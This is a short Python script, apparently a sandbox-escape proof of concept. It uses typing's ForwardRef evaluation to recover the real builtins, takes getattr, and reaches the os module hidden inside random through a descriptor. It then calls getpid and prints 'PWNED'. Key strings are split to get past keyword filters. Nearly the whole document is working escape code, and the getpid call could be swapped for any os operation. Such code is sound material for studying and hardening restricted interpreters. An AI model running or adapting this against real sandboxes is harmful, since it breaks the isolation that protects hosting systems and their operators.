# reflect: a descriptor __get__ that returns real getattr of the owner module
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import random
class D:
    def __get__(self, inst, owner):
        return ga(random, "_o" + "s")
class C:
    x = D()
print(M, C().x.getpid())
